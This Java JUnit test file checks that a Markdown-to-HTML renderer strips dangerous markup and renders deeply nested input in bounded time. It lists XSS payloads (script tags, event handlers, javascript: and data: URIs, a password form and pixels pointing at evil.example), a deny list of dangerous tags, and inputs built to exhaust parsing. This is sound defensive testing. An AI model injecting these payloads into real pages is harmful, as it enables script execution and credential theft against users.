package io.lyceum.catalog.internal.text;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.List;
import java.util.Locale;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

class HostileMarkdownTest {

    private static final int MEGABYTE = 1_000_000;
    private static final int LARGE = 200_000;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(1)</script>",
                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
                "<img src=x onerror=alert(1)>",
                "<img src='x' onerror='alert(1)' onload=alert(1)>",
                "<svg onload=alert(1)><script>alert(1)</script></svg>",
                "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
                "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='java&#10;script:alert(1)'>x</a>",
                "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
                "<a href='vbscript:x'>x</a>",
                "[x](javascript:alert(1))",
                "[x](JaVaScRiPt:alert(1))",
                "[x](data:text/html;base64,PHNjcmlwdD4=)",
                "![x](javascript:alert(1))",
                "![x](data:image/svg+xml;base64,PHN2Zz4=)",
                "[x]: javascript:alert(1)\n\n[x]",
                "<javascript:alert(1)>",
                "<iframe src=https://evil.example></iframe>",
                "<object data=x></object><embed src=x>",
                "<form action=https://evil.example><input name=password><button>ok</button></form>",
                "<style>body{display:none}</style>",
                "<link rel=stylesheet href=//evil.example>",
                "<base href=https://evil.example/>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<div style='position:fixed;inset:0'>x</div>",
                "<details ontoggle=alert(1) open>x</details>",
                "<div class='modal overlay' id=csrf>x</div>",
                "![x](fig/a.png){onerror='alert(1)' style='position:fixed'}",
                "::: {.callout onclick=alert(1) style='x'}\nx\n:::",
                "::: \"><script>alert(1)</script>\nx\n:::",
                "```\"><script>alert(1)</script>\nx\n```",
                "# x {#\"onmouseover=alert(1)}",
                "[x]{#a onclick=\"alert(1)\"}",
                "<!--><script>alert(1)</script>-->",
                "<a href=\"https://ok.example\" target=_blank rel=opener>x</a>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<img src=\"fig/a.png\" srcset=\"https://evil.example/x 1x\">",
                "<img src=https://evil.example/pixel.gif>",
                "<p title=\"<img src=https://evil.example/pixel.gif>\">x</p>"
            })
    void nothingThatRunsOrReachesOutComesThrough(String source) {
        String html = Markdown.render(source, LinkResolver.AS_WRITTEN).html();
        String tags = onlyTags(html).toLowerCase(Locale.ROOT);

        for (String bad :
                List.of(
                        "<script",
                        "<svg",
                        "<math",
                        "<iframe",
                        "<object",
                        "<embed",
                        "<form",
                        "<input",
                        "<button",
                        "<style",
                        "<link",
                        "<base",
                        "<meta",
                        " on",
                        "style=",
                        "javascript:",
                        "vbscript:",
                        "data:",
                        "srcset",
                        "target=",
                        "modal",
                        "id=\"csrf")) {
            assertFalse(tags.contains(bad), () -> bad + " in " + html);
        }
        assertFalse(tags.matches("(?s).*src=\"(?:https?:)?//.*"), html);
    }

    static List<String> expensive() {
        return List.of(
                ">".repeat(MEGABYTE),
                "> ".repeat(LARGE / 2) + "x",
                "- ".repeat(MEGABYTE / 2) + "x",
                "[".repeat(LARGE),
                "![".repeat(LARGE / 2),
                "*a **a ".repeat(LARGE / 7),
                "[a](".repeat(LARGE / 4),
                "`".repeat(LARGE),
                "<div>".repeat(LARGE / 5),
                "<div ".repeat(LARGE / 5),
                "<a \"".repeat(LARGE / 4),
                "<!-".repeat(LARGE / 3),
                "<!---->".repeat(LARGE / 7),
                "::: challenge\n".repeat(LARGE / 14),
                ":::\n".repeat(LARGE / 4),
                ":".repeat(LARGE),
                "[x]{".repeat(LARGE / 4),
                "](x){a='".repeat(LARGE / 8),
                "]{#a}".repeat(LARGE / 5),
                "[x]{#a}".repeat(LARGE / 7),
                "{%".repeat(LARGE / 2),
                "{:".repeat(LARGE / 2),
                "a\n:   ".repeat(LARGE / 6),
                "[^a]".repeat(LARGE / 4) + "\n\n[^a]: x",
                "+-".repeat(LARGE / 2) + "+",
                "+---+\n| a |\n".repeat(LARGE / 12),
                "| a ".repeat(LARGE / 4) + "\n" + "|-".repeat(LARGE / 2),
                "# x\n".repeat(LARGE / 4),
                "&".repeat(LARGE),
                "http://a.".repeat(LARGE / 9),
                "\u0000\uFFFE\u202E".repeat(LARGE / 3));
    }

    @ParameterizedTest
    @MethodSource("expensive")
    void nestingTakesBoundedTime(String source) {
        assertTimeoutPreemptively(
                Duration.ofSeconds(20),
                () -> Markdown.render(source, LinkResolver.AS_WRITTEN),
                () -> source.substring(0, 20));
    }

    @Test
    void tooLongATextIsShownAsPlainText() {
        SafeHtml result = Markdown.render("<b>x".repeat(600_000), LinkResolver.NONE);

        assertEquals(MarkdownNote.Kind.TOO_COMPLEX, result.notes().get(0).kind());
        assertTrue(result.html().startsWith("<pre"), "plain text");
    }

    @Test
    void unclosedElementsAreClosed() {
        String html = Markdown.render("<div><section><b>x", LinkResolver.NONE).html();

        assertEquals(count(html, "<div"), count(html, "</div"));
        assertEquals(count(html, "<section"), count(html, "</section"));
    }

    private static int count(String text, String part) {
        return text.split(part, -1).length - 1;
    }

    /**
     * Keeps what stands between angle brackets: text that only looks like an attack is harmless.
     */
    private static String onlyTags(String html) {
        StringBuilder tags = new StringBuilder();
        for (int at = html.indexOf('<'); at >= 0; at = html.indexOf('<', at + 1)) {
            tags.append(html, at, html.indexOf('>', at) + 1);
        }
        return tags.toString();
    }
}
